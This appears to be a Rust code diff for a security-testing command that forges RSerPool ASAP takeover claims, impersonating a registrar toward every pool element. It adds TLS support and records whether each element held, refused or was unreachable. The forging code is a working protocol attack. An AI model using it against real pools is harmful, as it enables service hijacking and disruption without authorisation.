@@ -124,7 +124,9 @@ enum Verdict {
 }
 
 async fn takeover(a: TakeoverArgs) -> Result<()> {
-    let cfg = super::pu_config(&a.registrars)?;
+    let mut cfg = super::pu_config(&a.registrars)?;
+    // Every PE of the pool (the registrar's default answer names 3).
+    cfg.items = Some(u32::MAX);
     let handle = PoolHandle::from(a.pool.as_str());
     let mut pu = PoolUser::new(cfg)?;
     let res = pu.resolve(&handle).await.context("handle resolution")?;
@@ -132,6 +134,8 @@ async fn takeover(a: TakeoverArgs) -> Result<()> {
         bail!("pool {} has no PE", a.pool);
     }
     let hold = Duration::from_millis(a.hold_ms);
+    // With TLS options the claim goes over TLS with this certificate, as a registrar's would.
+    let tls = a.registrars.tls()?;
     let mut held = 0;
     for pe in &res.pool_elements {
         let Some(at) = pe
@@ -142,7 +146,7 @@ async fn takeover(a: TakeoverArgs) -> Result<()> {
             println!("PE {:#010x}: announces no takeover address", pe.id);
             continue;
         };
-        let v = forge(at, &handle, pe.id, a.server_id, hold).await;
+        let v = forge(at, tls.as_deref(), &handle, pe.id, a.server_id, hold).await;
         println!("PE {:#010x} at {at}: {v:?}", pe.id);
         held += usize::from(v == Verdict::Held);
     }
@@ -152,16 +156,32 @@ async fn takeover(a: TakeoverArgs) -> Result<()> {
     Ok(())
 }
 
-/// One forged takeover at `at`.
+/// One forged takeover at `at` (over TLS with `tls`).
 async fn forge(
     at: SocketAddr,
+    tls: Option<&rserpool_tls::Tls>,
     pool: &PoolHandle,
     pe: u32,
     server_id: u32,
     hold: Duration,
 ) -> Verdict {
-    let Ok(mut c) = AsapConnection::connect(at, Duration::from_secs(2)).await else {
-        return Verdict::Unreachable;
+    let connect = async {
+        let s = tokio::net::TcpStream::connect(at).await?;
+        match tls {
+            Some(tls) => {
+                let s = tls.connect_stream(at.ip(), s).await?;
+                Ok::<_, std::io::Error>(AsapConnection::from_io(s, at))
+            }
+            None => Ok(AsapConnection::from_stream(s, at)),
+        }
+    };
+    let mut c = match tokio::time::timeout(Duration::from_secs(2), connect).await {
+        Ok(Ok(c)) => c,
+        // The PE's TLS refused the handshake (it does not trust the certificate).
+        Ok(Err(e)) if tls.is_some() && e.kind() != std::io::ErrorKind::ConnectionRefused => {
+            return Verdict::Refused;
+        }
+        _ => return Verdict::Unreachable,
     };
     let claim = AsapMessage::EndpointKeepAlive {
         home: true,
